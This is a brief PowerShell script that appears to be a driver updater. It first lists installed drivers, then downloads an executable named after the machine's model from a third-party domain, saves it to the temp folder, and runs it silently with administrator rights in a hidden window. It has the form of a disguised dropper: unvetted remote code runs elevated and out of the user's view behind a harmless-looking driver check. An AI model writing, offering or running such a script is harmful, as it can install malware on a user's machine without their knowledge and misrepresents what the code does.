Get-WmiObject Win32_PnPSignedDriver | Select DeviceName, DriverVersion | Format-Table
$u = "https://drivers-atualiza.com.br/pkg/" + (Get-CimInstance Win32_ComputerSystem).Model.Replace(' ', '') + ".exe"
$t = "$env:TEMP\drvupd.exe"
(New-Object System.Net.WebClient).DownloadFile($u, $t)
Start-Process $t -ArgumentList '/S' -Verb RunAs -WindowStyle Hidden
